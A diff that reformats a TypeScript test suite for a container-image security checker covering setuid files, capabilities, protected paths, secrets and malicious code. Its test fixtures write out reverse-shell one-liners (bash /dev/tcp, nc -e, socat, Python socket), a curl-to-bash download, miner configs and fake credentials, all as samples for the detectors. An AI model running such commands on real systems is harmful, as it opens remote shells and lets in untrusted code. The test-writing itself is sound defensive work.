@@ -6,7 +6,9 @@ const layer = (entries: LayerSpec['entries'], createdBy = '/bin/sh -c make-it') 
 
 describe('a clean image', () => {
   it('has no findings at all when built on the given base', async () => {
-    const result = await check(onBase([layer([{ path: 'opt/app/train.py', content: 'print("hi")\n', uid: 1101 }])], { User: 'work', Cmd: ['python3', '/opt/app/train.py'] }));
+    const result = await check(
+      onBase([layer([{ path: 'opt/app/train.py', content: 'print("hi")\n', uid: 1101 }])], { User: 'work', Cmd: ['python3', '/opt/app/train.py'] })
+    );
     expect(result.findings).toEqual([]);
   });
 });
@@ -72,7 +74,9 @@ describe('default-user', () => {
   });
 
   it('resolves names through the final /etc/passwd and honours --expected-uid', async () => {
-    const spec = onBase([layer([{ path: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nma-user:x:1000:100::/home/ma-user:/bin/sh\n' }])], { User: 'ma-user' });
+    const spec = onBase([layer([{ path: 'etc/passwd', content: 'root:x:0:0::/root:/bin/sh\nma-user:x:1000:100::/home/ma-user:/bin/sh\n' }])], {
+      User: 'ma-user'
+    });
     expect(rule(await check(spec, { settings: { expectedUid: 1000 } }), 'default-user')).toEqual([]);
     expect(rule(await check(spec), 'default-user')[0].message).toMatch(/UID 1000; ModelArts requires UID 1101/);
   });
@@ -86,7 +90,14 @@ describe('setuid-setgid', () => {
   });
 
   it('reports a setgid file too, but not one owned by another user', async () => {
-    const r = await check(onBase([layer([{ path: 'opt/g', content: 'x', mode: 0o2755 }, { path: 'opt/u', content: 'x', mode: 0o4755, uid: 1101 }])]));
+    const r = await check(
+      onBase([
+        layer([
+          { path: 'opt/g', content: 'x', mode: 0o2755 },
+          { path: 'opt/u', content: 'x', mode: 0o4755, uid: 1101 }
+        ])
+      ])
+    );
     expect(paths(r, 'setuid-setgid')).toEqual(['/opt/g']);
   });
 
@@ -94,9 +105,15 @@ describe('setuid-setgid', () => {
     // overlayfs stops merging a directory at a lower layer's non-directory: /opt/x/tool is gone.
     const r = await check(
       onBase([
-        layer([{ path: 'opt/x', type: 'dir' }, { path: 'opt/x/tool', content: 'x', mode: 0o4755 }]),
+        layer([
+          { path: 'opt/x', type: 'dir' },
+          { path: 'opt/x/tool', content: 'x', mode: 0o4755 }
+        ]),
         layer([{ path: 'opt/x', content: 'now a file' }]),
-        layer([{ path: 'opt/x', type: 'dir' }, { path: 'opt/x/new', content: 'n' }])
+        layer([
+          { path: 'opt/x', type: 'dir' },
+          { path: 'opt/x/new', content: 'n' }
+        ])
       ])
     );
     expect(paths(r, 'setuid-setgid')).toEqual([]);
@@ -106,7 +123,11 @@ describe('setuid-setgid', () => {
   it('does not report a file whose directory a later layer replaced with a hard link', async () => {
     const r = await check(
       onBase([
-        layer([{ path: 'opt/y', type: 'dir' }, { path: 'opt/y/tool', content: 'x', mode: 0o4755 }, { path: 'opt/plain', content: 'p' }]),
+        layer([
+          { path: 'opt/y', type: 'dir' },
+          { path: 'opt/y/tool', content: 'x', mode: 0o4755 },
+          { path: 'opt/plain', content: 'p' }
+        ]),
         layer([{ path: 'opt/y', type: 'hardlink', link: 'opt/plain' }])
       ])
     );
@@ -149,10 +170,16 @@ describe('file-capabilities', () => {
   const BPF = 39;
 
   it('warns about a file a custom layer gave capabilities, naming them as getcap does', async () => {
-    const r = await check(onBase([layer([{ path: 'opt/py', content: 'python', capability: capabilityValue([SETUID, NET_RAW]) }], '/bin/sh -c setcap cap_setuid,cap_net_raw+ep /opt/py')]));
+    const r = await check(
+      onBase([
+        layer([{ path: 'opt/py', content: 'python', capability: capabilityValue([SETUID, NET_RAW]) }], '/bin/sh -c setcap cap_setuid,cap_net_raw+ep /opt/py')
+      ])
+    );
     const found = rule(r, 'file-capabilities');
     expect(found.map((f) => [f.path, f.severity, f.layer?.index])).toEqual([['/opt/py', 'warning', 1]]);
-    expect(found[0].message).toMatch(/^\/opt\/py has the file capabilities cap_setuid,cap_net_raw=ep: whoever runs it gets them.*; it was added\. Remove them \(setcap -r \/opt\/py\)/);
+    expect(found[0].message).toMatch(
+      /^\/opt\/py has the file capabilities cap_setuid,cap_net_raw=ep: whoever runs it gets them.*; it was added\. Remove them \(setcap -r \/opt\/py\)/
+    );
     // A warning: ModelArts does not name capabilities, and the image passes at the default fail-on.
     expect(r.findings.filter((f) => f.severity === 'error')).toEqual([]);
   });
@@ -221,7 +248,10 @@ describe('protected-path', () => {
 
   it('accepts a byte-identical rewrite and a change that a later layer restores', async () => {
     expect(rule(await check(onBase([layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])])), 'protected-path')).toEqual([]);
-    const restored = onBase([layer([{ path: 'usr/lib/libc.so', content: 'evil', mode: 0o755 }]), layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])]);
+    const restored = onBase([
+      layer([{ path: 'usr/lib/libc.so', content: 'evil', mode: 0o755 }]),
+      layer([{ path: 'usr/lib/libc.so', content: 'libc', mode: 0o755 }])
+    ]);
     expect(rule(await check(restored), 'protected-path')).toEqual([]);
   });
 
@@ -234,7 +264,10 @@ describe('protected-path', () => {
     const lib = Buffer.alloc(100_000, 'cuda library ');
     const base = [...baseLayers(), layer([{ path: 'usr/lib/libcudart.so', content: lib, mode: 0o755 }])];
     const rewritten = async (content: Buffer) =>
-      paths(await check({ ...onBase([]), layers: [...base, layer([{ path: 'usr/lib/libcudart.so', content, mode: 0o755 }])] }, { baseLayers: base, chunk }), 'protected-path');
+      paths(
+        await check({ ...onBase([]), layers: [...base, layer([{ path: 'usr/lib/libcudart.so', content, mode: 0o755 }])] }, { baseLayers: base, chunk }),
+        'protected-path'
+      );
     expect(await rewritten(Buffer.from(lib))).toEqual([]);
     for (const at of [0, 50_000, lib.length - 1]) {
       const changed = Buffer.from(lib);
@@ -253,7 +286,15 @@ describe('protected-path', () => {
   });
 
   it('reports files hidden by an opaque directory', async () => {
-    const r = await check(onBase([layer([{ path: 'usr/share/doc', type: 'dir' }, { path: 'usr/share/doc', type: 'opaque' }, { path: 'usr/share/doc/new', content: 'n' }])]));
+    const r = await check(
+      onBase([
+        layer([
+          { path: 'usr/share/doc', type: 'dir' },
+          { path: 'usr/share/doc', type: 'opaque' },
+          { path: 'usr/share/doc/new', content: 'n' }
+        ])
+      ])
+    );
     expect(rule(r, 'protected-path')[0].message).toMatch(/hidden/);
   });
 
@@ -279,7 +320,12 @@ describe('protected-etc', () => {
   });
 
   it('follows the configured list: globs outside /etc, or none at all', async () => {
-    const spec = onBase([layer([{ path: 'etc/passwd', content: 'root:x:0:0::/:/bin/sh\n' }, { path: 'opt/policy/rules.conf', content: 'x' }])]);
+    const spec = onBase([
+      layer([
+        { path: 'etc/passwd', content: 'root:x:0:0::/:/bin/sh\n' },
+        { path: 'opt/policy/rules.conf', content: 'x' }
+      ])
+    ]);
     const custom = await check(spec, { settings: { protectedEtc: ['/etc/passwd', '/opt/policy/**'] } });
     expect(paths(custom, 'protected-etc').sort()).toEqual(['/etc/passwd', '/opt/policy/rules.conf']);
     expect(rule(await check(spec, { settings: { protectedEtc: [] } }), 'protected-etc')).toEqual([]);
@@ -303,7 +349,9 @@ describe('modelarts-tools', () => {
 
 describe('image-size', () => {
   it('reports an image over the limit with its largest layers and files', async () => {
-    const r = await check(onBase([layer([{ path: 'opt/model.bin', content: Buffer.alloc(40000, 7) }], '/bin/sh -c download-weights')]), { settings: { maxSize: 20000 } });
+    const r = await check(onBase([layer([{ path: 'opt/model.bin', content: Buffer.alloc(40000, 7) }], '/bin/sh -c download-weights')]), {
+      settings: { maxSize: 20000 }
+    });
     const found = rule(r, 'image-size');
     expect(found).toHaveLength(1);
     expect(found[0].message).toMatch(/over the 20\.0 kB limit/);
@@ -333,7 +381,10 @@ describe('base-image', () => {
     const spec = onBase([layer([{ path: 'opt/app.py', content: 'x' }])]);
     expect(rule(await check(spec, { platform: { os: 'linux', architecture: 'arm64' } }), 'base-image')).toEqual([]);
     // Spellings containerd normalizes to amd64 and arm64 (and a capitalized OS) are the same platforms.
-    for (const platform of [{ os: 'Linux', architecture: 'x86_64' }, { os: 'linux', architecture: 'aarch64' }]) {
+    for (const platform of [
+      { os: 'Linux', architecture: 'x86_64' },
+      { os: 'linux', architecture: 'aarch64' }
+    ]) {
       expect(rule(await check(spec, { platform }), 'base-image')).toEqual([]);
     }
     const unnamed = (config: Record<string, unknown>) => {
@@ -360,7 +411,9 @@ describe('base-image', () => {
     expect(r.findings.filter((f) => f.rule !== 'base-image')).toEqual([]);
     // An image that is the base's first layers alone has no layer that differs: it has too few.
     const short = await check(onBase([]), { baseLayers: [...baseLayers(), v2] });
-    expect(rule(short, 'base-image').map((f) => f.message)).toEqual([expect.stringMatching(/it has 1 layer, the base image 2, and they are the base's first ones/)]);
+    expect(rule(short, 'base-image').map((f) => f.message)).toEqual([
+      expect.stringMatching(/it has 1 layer, the base image 2, and they are the base's first ones/)
+    ]);
   });
 
   it('warns without a base and guesses the boundary from the history', async () => {
@@ -379,10 +432,17 @@ describe('log-stdout and offline-deps', () => {
 
   it('reads the start-up command and the scripts it starts', async () => {
     const r = await check(
-      onBase([script('#!/bin/bash\npip install torch==2.1\npython train.py > /cache/train.log 2>&1\npython eval.py | tee eval.txt\nnohup python serve.py &\necho ok\n')], {
-        User: 'work',
-        Cmd: ['/bin/sh', '-c', 'bash /opt/start.sh']
-      })
+      onBase(
+        [
+          script(
+            '#!/bin/bash\npip install torch==2.1\npython train.py > /cache/train.log 2>&1\npython eval.py | tee eval.txt\nnohup python serve.py &\necho ok\n'
+          )
+        ],
+        {
+          User: 'work',
+          Cmd: ['/bin/sh', '-c', 'bash /opt/start.sh']
+        }
+      )
     );
     const logs = rule(r, 'log-stdout').map((f) => f.message);
     expect(logs).toHaveLength(3);
@@ -396,14 +456,24 @@ describe('log-stdout and offline-deps', () => {
   });
 
   it('accepts logging to stdout and offline installs', async () => {
-    const r = await check(onBase([script('#!/bin/sh\npip install --no-index --find-links /wheels x\npython train.py 2>&1\ncommand -v nvidia-smi > /dev/null\n')], { User: 'work', Entrypoint: ['/opt/start.sh'] }));
+    const r = await check(
+      onBase([script('#!/bin/sh\npip install --no-index --find-links /wheels x\npython train.py 2>&1\ncommand -v nvidia-smi > /dev/null\n')], {
+        User: 'work',
+        Entrypoint: ['/opt/start.sh']
+      })
+    );
     expect(rule(r, 'log-stdout')).toEqual([]);
     expect(rule(r, 'offline-deps')).toEqual([]);
   });
 
   it('quotes a long start-up line cut, saying how long it is', async () => {
     const padding = 'x'.repeat(10_000);
-    const r = await check(onBase([script(`#!/bin/sh\npython train.py --tag ${padding} > /cache/train.log\npip install torch ${padding}\n`)], { User: 'work', Entrypoint: ['/opt/start.sh'] }));
+    const r = await check(
+      onBase([script(`#!/bin/sh\npython train.py --tag ${padding} > /cache/train.log\npip install torch ${padding}\n`)], {
+        User: 'work',
+        Entrypoint: ['/opt/start.sh']
+      })
+    );
     const [log] = rule(r, 'log-stdout');
     const [dep] = rule(r, 'offline-deps');
     expect(log.message).toMatch(/\("python train\.py --tag x{138}\.\.\. \(10,041 characters\)"\)/);
@@ -411,7 +481,9 @@ describe('log-stdout and offline-deps', () => {
   });
 
   it('flags downloads in the command itself', async () => {
-    const r = await check(onBase([], { User: 'work', Cmd: ['/bin/sh', '-c', 'git clone https://example.com/x.git && curl -sL https://example.com/get.sh | bash'] }));
+    const r = await check(
+      onBase([], { User: 'work', Cmd: ['/bin/sh', '-c', 'git clone https://example.com/x.git && curl -sL https://example.com/get.sh | bash'] })
+    );
     expect(rule(r, 'offline-deps')).toHaveLength(1);
   });
 });
@@ -424,7 +496,10 @@ describe('malicious-code', () => {
     ['bash reverse shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
     ['netcat', 'nc -e /bin/sh 10.0.0.1 4444'],
     ['socat', "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr"],
-    ['python one-liner', 'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''],
+    [
+      'python one-liner',
+      'python -c \'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\''
+    ],
     ['miner pool', '{"url": "stratum+tcp://pool.example.com:3333"}'],
     ['miner config', '{"donate-level": 1, "cpu": true}']
   ])('finds %s in a custom layer', async (_name, content) => {
@@ -486,18 +561,29 @@ describe('secrets', () => {
     const r = await check(
       onBase(
         [
-          layer([
-            { path: 'root/.ssh/id_rsa', content: `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'}\n-----END OPENSSH PRIVATE KEY-----\n` },
-            { path: 'opt/app/settings.py', content: `AWS_KEY = "${AWS}"\n` },
-            { path: 'home/work/.docker/config.json', content: '{"auths":{"swr.cn-north-4.myhuaweicloud.com":{"auth":"Y24tbm9ydGgtNEBBSzpzZWNyZXQ="}}}' },
-            { path: 'home/work/.obsutilconfig', content: `endpoint=obs.example.com\nak=ABCDEFGHIJKLMNOPQRST\nsk=${SK}\n` }
-          ], `|1 HUAWEICLOUD_SDK_SK=${SK} /bin/sh -c ./setup.sh`)
+          layer(
+            [
+              {
+                path: 'root/.ssh/id_rsa',
+                content: `-----BEGIN OPENSSH PRIVATE KEY-----\n${'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW'}\n-----END OPENSSH PRIVATE KEY-----\n`
+              },
+              { path: 'opt/app/settings.py', content: `AWS_KEY = "${AWS}"\n` },
+              { path: 'home/work/.docker/config.json', content: '{"auths":{"swr.cn-north-4.myhuaweicloud.com":{"auth":"Y24tbm9ydGgtNEBBSzpzZWNyZXQ="}}}' },
+              { path: 'home/work/.obsutilconfig', content: `endpoint=obs.example.com\nak=ABCDEFGHIJKLMNOPQRST\nsk=${SK}\n` }
+            ],
+            `|1 HUAWEICLOUD_SDK_SK=${SK} /bin/sh -c ./setup.sh`
+          )
         ],
         { User: 'work', Env: [`OBS_SK=${SK}`, 'PATH=/usr/bin'] }
       )
     );
     const found = rule(r, 'secrets');
-    expect(found.map((f) => f.path).filter(Boolean).sort()).toEqual(['/home/work/.docker/config.json', '/home/work/.obsutilconfig', '/opt/app/settings.py', '/root/.ssh/id_rsa']);
+    expect(
+      found
+        .map((f) => f.path)
+        .filter(Boolean)
+        .sort()
+    ).toEqual(['/home/work/.docker/config.json', '/home/work/.obsutilconfig', '/opt/app/settings.py', '/root/.ssh/id_rsa']);
     expect(found.some((f) => /environment sets OBS_SK=/.test(f.message))).toBe(true);
     expect(found.some((f) => /Build step \d+ recorded HUAWEICLOUD_SDK_SK=/.test(f.message))).toBe(true);
     const text = JSON.stringify(r.findings);
@@ -518,11 +604,19 @@ describe('secrets', () => {
     const content = `nc -e /bin/sh 10.0.0.1 4444\nKEY=${AWS}\nnc -e /bin/bash 10.0.0.2 4444\nOBS_SK=${SK}\nKEY2=AKIAQ3MSJV4WWXXJ6ZQG\n`;
     const r = await check(onBase([layer([{ path: 'opt/setup.sh', content }])], { User: 'work' }));
     expect(rule(r, 'malicious-code').map((f) => f.path)).toEqual(['/opt/setup.sh']);
-    expect(rule(r, 'secrets').map((f) => f.message.match(/AWS access key|Huawei Cloud secret key/)?.[0])).toEqual(['AWS access key', 'Huawei Cloud secret key']);
+    expect(rule(r, 'secrets').map((f) => f.message.match(/AWS access key|Huawei Cloud secret key/)?.[0])).toEqual([
+      'AWS access key',
+      'Huawei Cloud secret key'
+    ]);
   });
 
   it('ignores documentation examples and placeholders', async () => {
-    const r = await check(onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], { User: 'work', Env: ['OBS_SK=${OBS_SK}', 'PASSWORD='] }));
+    const r = await check(
+      onBase([layer([{ path: 'opt/README', content: 'export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n' }])], {
+        User: 'work',
+        Env: ['OBS_SK=${OBS_SK}', 'PASSWORD=']
+      })
+    );
     expect(rule(r, 'secrets')).toEqual([]);
   });
 });
@@ -536,7 +630,10 @@ describe('severities and waivers', () => {
   });
 
   it('waives a finding by rule and path glob until the waiver expires', async () => {
-    const waived = rule(await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-12-31' }] } }), 'setuid-setgid');
+    const waived = rule(
+      await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-12-31' }] } }),
+      'setuid-setgid'
+    );
     expect(waived[0].waived).toEqual({ reason: 'vendor tool', expires: '2026-12-31' });
     const expired = await check(spec, { settings: { waivers: [{ rule: 'setuid-setgid', path: '/opt/**', reason: 'vendor tool', expires: '2026-01-01' }] } });
     const found = rule(expired, 'setuid-setgid');
